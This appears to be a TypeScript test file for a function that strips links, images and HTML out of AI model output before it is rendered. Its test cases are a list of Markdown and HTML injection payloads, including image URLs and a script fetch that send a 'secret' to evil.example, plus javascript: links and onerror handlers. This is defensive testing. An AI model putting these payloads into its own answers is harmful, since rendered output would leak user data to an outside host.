import MarkdownIt from 'markdown-it'
import { describe, expect, it } from 'vitest'
import { neutraliseModelText } from './neutralise-markdown.ts'

const markdown = new MarkdownIt({ html: true, linkify: true })
// Makes links as GitHub's Markdown does, which the web uses.
markdown.linkify.add('//', null).set({ fuzzyLink: false, fuzzyEmail: false })
const html = (text: string) => markdown.render(text)
const isInert = (text: string) => !/<(?:a|img|script|iframe|svg|style|form|input|b|i)[\s>]/i.test(html(text))

const attacks = [
  '![logo](https://evil.example/p.png?d=secret)',
  '![a](<https://evil.example/p p.png>)',
  '[click here](https://evil.example/?q=secret "title")',
  '[click](javascript:alert(1))',
  '[click][1]\n\n[1]: https://evil.example',
  '[evil]\n\n[evil]: https://evil.example',
  '![evil][]\n\n[evil]: https://evil.example',
  '<https://evil.example/x>',
  'https://evil.example/secret',
  'HTTPS://evil.example/secret',
  '_https://evil.example_',
  'http\\://evil.example',
  '&#104;ttps://evil.example/x',
  '&lt;img src=x&gt; <img src=https://evil.example/x.png onerror=alert(1)>',
  '<script>fetch("https://evil.example")</script>',
  '<a href="https://evil.example">x</a>',
  '<!-- x --><iframe src="//evil.example"></iframe>',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '[a](https://evil.example/(x)y)',
  '[a [b] c](https://evil.example)',
  '[a\\](https://evil.example)',
  '`a` ![x](https://evil.example/`b`)',
  '![\u202ex](https://evil.example)',
  '[](https://evil.example)',
]

describe('a model’s words', () => {
  it.each(attacks)('such as "%s" lead nowhere', attack => {
    expect(isInert(neutraliseModelText(attack, ''))).toBe(true)
    // Whatever precedes it, and however it is split.
    for (let at = 1; at < attack.length; at++) {
      const first = neutraliseModelText(attack.slice(0, at), '')
      const whole = first + neutraliseModelText(attack.slice(at), first.at(-1) ?? '')
      if (/[\s.!?]/.test(attack.charAt(at - 1))) expect(isInert(whole), JSON.stringify(whole)).toBe(true)
    }
  })

  it('hold no marks but ours', () => {
    expect(neutraliseModelText('as in [1] and [ 2] and [^3]', '')).not.toMatch(/\[\s*\^?\d/)
    expect(neutraliseModelText('a[0] = 1', '', true)).not.toMatch(/\[\d/)
  })

  it('keep what makes an answer readable', () => {
    const text = '**Fee**: 5 < 6 & 7 > 3, `x`, _so_, a@example.org, C:\\temp, 3 * 4 | x |'
    expect(neutraliseModelText(text, '')).toBe(text)
  })

  it('keep the words and the address of a link as text, and the description of an image', () => {
    const shown = neutraliseModelText(
      'See [the policy](https://intra.example/p) ![chart](https://x.example/c.png).',
      '',
    )
    expect(shown.replaceAll('\u2060', '')).toBe('See the policy (https://intra.example/p) chart.')
  })
})
